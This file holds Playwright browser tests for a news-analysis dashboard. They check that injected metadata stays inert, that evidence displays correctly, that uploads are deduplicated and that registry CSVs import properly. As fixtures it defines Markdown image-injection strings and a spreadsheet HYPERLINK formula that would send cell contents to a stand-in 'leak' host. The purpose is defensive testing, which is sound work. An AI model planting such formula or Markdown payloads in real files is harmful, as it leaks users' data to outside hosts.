"""In a real browser (Debian chromium): hostile article metadata stays text and fetches nothing,
the evidence opens in view, and an upload with the same text twice stores it once and clears
the form. The server runs on 127.0.0.1 and is stopped by its process id (see test_browser)."""

import shutil
from pathlib import Path

import pytest

from test_browser import CHROMIUM, browser, running_app, settle  # noqa: F401  (browser: a fixture used by name)

ROOT = Path(__file__).resolve().parent.parent
SEED = ROOT / "seeds" / "000_6f88fa4361e87f91.txt"
TITLE = "![x](http://example.invalid/p.png)"
SOURCE = "![y](http://example.invalid/q.png) [src](http://example.invalid/s)"
FORMULA = '=HYPERLINK("http://example.invalid/leak?"&A1,"open")'

pytestmark = pytest.mark.skipif(not shutil.which(CHROMIUM) and not Path(CHROMIUM).exists(),
                                reason="Debian chromium is not installed (.ci/run installs it)")


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, nlp):
    from analysis.reader import parse_article, read_file
    from analysis.store import Store

    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    Store(db).ingest([
        ("seed", read_file(SEED)),
        ("evil.txt", parse_article("German Foreign Minister Anna Berg said sanctions on Russia must stay in place.",
                                   "evil.txt", title=TITLE, source=SOURCE)),
        ("formula.txt", parse_article("Polish Foreign Minister Jan Nowak said Europe must spend more on defence.",
                                      "formula.txt", title=FORMULA)),
    ])
    with running_app(db) as base:
        yield base


def watch(page, base):
    outside = []
    page.on("request", lambda r: outside.append(r.url)
            if not r.url.startswith((base, "data:", "blob:", "about:")) else None)
    return outside


def test_markdown_in_title_and_source_is_shown_as_text_and_fetches_nothing(hostile_server, browser):
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    outside = watch(page, hostile_server)
    for name in ("articles", "positions?country=DEU", "actors", "add"):
        page.goto(f"{hostile_server}/{name}")
        settle(page)
        assert page.locator("[data-testid='stException']").count() == 0, name
        assert page.locator("img[src*='example.invalid']").count() == 0, name
        assert page.locator("a[href*='example.invalid']").count() == 0, name
    page.goto(f"{hostile_server}/articles")
    settle(page)
    page.locator("[data-testid='stSelectbox']").filter(has_text="Article").first.click()
    page.get_by_role("option", name=TITLE).click()
    settle(page)
    assert page.get_by_text(f"{TITLE} · {SOURCE} · undated", exact=True).count() == 1
    page.wait_for_timeout(1000)
    assert outside == [], f"requests left 127.0.0.1: {outside[:5]}"
    context.close()


def test_selected_evidence_is_in_view_in_its_box(hostile_server, browser):
    """The seed's last position (far down the article) is opened from the table."""
    context = browser.new_context(viewport={"width": 1366, "height": 900})
    page = context.new_page()
    page.goto(f"{hostile_server}/positions")
    settle(page)
    page.get_by_placeholder("e.g. sanctions").fill("stepping up for Ukraine")
    page.keyboard.press("Enter")
    settle(page)
    grid = page.locator("[data-testid='stDataFrame']").first.bounding_box()
    page.mouse.click(grid["x"] + 16, grid["y"] + 52)  # the first row's selection box
    page.wait_for_selector(".evidence-box mark", timeout=30000)
    geometry = page.evaluate("""() => { const box = document.querySelector('.evidence-box');
        const mark = box.querySelector('mark'); const b = box.getBoundingClientRect(), m = mark.getBoundingClientRect();
        return {boxTop: b.top, boxBottom: b.bottom, markTop: m.top, markBottom: m.bottom,
                overflows: box.scrollHeight > box.clientHeight, text: mark.innerText} }""")
    assert "stepping up for Ukraine" in geometry["text"]
    assert geometry["boxTop"] <= geometry["markTop"] and geometry["markBottom"] <= geometry["boxBottom"], geometry
    assert page.get_by_text("Earlier text (").count() == 1  # the article's start is still one click away
    context.close()


def test_same_text_twice_in_one_upload_is_stored_once_and_form_clears(browser, tmp_path):
    text = "Title: Oslo\n\nNorwegian Prime Minister Kari Lunde said Oslo would keep sanctions on Russia in place."
    first, second = tmp_path / "first.txt", tmp_path / "second.txt"
    first.write_text(text, encoding="utf-8")
    second.write_text(text, encoding="utf-8")
    with running_app(tmp_path / "upload.db") as base:
        context = browser.new_context(viewport={"width": 1366, "height": 900})
        page = context.new_page()
        page.goto(f"{base}/add")  # the first request after start: must run through dashboard.py
        settle(page)
        assert page.locator("[data-testid='stSidebarNav'] a", has_text="Add articles").count() == 1
        page.locator("[data-testid='stFileUploaderDropzoneInput']").set_input_files([str(first), str(second)])
        page.wait_for_timeout(1500)
        page.get_by_role("button", name="Analyse and add").click()
        page.wait_for_selector("text=1 article(s) stored", timeout=90000)
        settle(page)
        message = "second.txt: the same text as first.txt in this upload; stored once."
        assert page.locator("[data-testid='stAlert']", has_text=message).count() == 1
        assert page.locator("[data-testid='stFileUploaderFile']").count() == 0  # the uploader is empty again
        page.screenshot(path=str(tmp_path.parent / "add-after-upload.png"), full_page=True)
        context.close()
    from analysis.store import Store

    assert len(Store(tmp_path / "upload.db").tables().articles) == 2  # the seed and Oslo, once


def test_csv_download_from_the_app_neutralises_formulas(hostile_server, browser, tmp_path):
    import csv

    context = browser.new_context(viewport={"width": 1366, "height": 900}, accept_downloads=True)
    page = context.new_page()
    page.goto(f"{hostile_server}/actors?country=POL")
    settle(page)
    with page.expect_download(timeout=60000) as info:
        page.get_by_role("button", name="Download CSV").first.click()
    target = tmp_path / info.value.suggested_filename
    info.value.save_as(target)
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    [nowak] = [r for r in rows if r["name"] == "Jan Nowak"]
    assert nowak["article title"] == "'" + FORMULA
    context.close()


def test_registry_csv_download_then_import_and_a_bad_file(browser, tmp_path):
    """People page: the registry downloads as CSV; a list that gives an unstated person a country
    is imported and shows; a file with a bad row imports nothing and names its line."""
    import csv

    from analysis.reader import parse_article
    from analysis.store import Store

    db = tmp_path / "people.db"
    Store(db).ingest([("mira.txt", parse_article("Mira Talvik said sanctions on Russia must stay in place.",
                                                 "mira.txt", title="Sanctions"))])
    good, bad = tmp_path / "team.csv", tmp_path / "broken.csv"
    good.write_text("name,variants,country,role\nMira Talvik,M. Talvik,EST,Foreign Minister\n", encoding="utf-8")
    bad.write_text("name,country\nAnna Berg,DEU\nTom Lind,XYZ\n", encoding="utf-8")
    with running_app(db) as base:
        context = browser.new_context(viewport={"width": 1366, "height": 900}, accept_downloads=True)
        page = context.new_page()
        page.goto(f"{base}/people")
        settle(page)
        page.get_by_text("Share the registry").click()
        with page.expect_download(timeout=60000) as info:
            page.get_by_role("button", name="Download the registry (CSV)").click()
        target = tmp_path / info.value.suggested_filename
        info.value.save_as(target)
        rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
        assert [(r["name"], r["country"]) for r in rows] == [("Mira Talvik", "")]

        uploader = page.locator("[data-testid='stFileUploaderDropzoneInput']")
        uploader.set_input_files(str(bad))
        page.wait_for_timeout(1500)
        page.get_by_role("button", name="Import", exact=True).click()
        settle(page)
        error = page.locator("[data-testid='stAlert']", has_text="line 3")
        assert error.count() == 1 and "nothing imported" in error.inner_text()
        assert Store(db).registry().get("Anna Berg") is None  # the good row of a bad file is not imported

        uploader.set_input_files(str(good))
        page.wait_for_timeout(1500)
        page.get_by_role("button", name="Import", exact=True).click()
        page.wait_for_selector("text=Imported 1 person from team.csv", timeout=60000)
        settle(page)
        page.screenshot(path=str(tmp_path.parent / "people-after-import.png"), full_page=True)
        context.close()
    actors = Store(db).tables().actors
    assert actors[["name", "country", "country_source", "role"]].values.tolist() == [
        ["Mira Talvik", "EST", "import", "Foreign Minister"]]
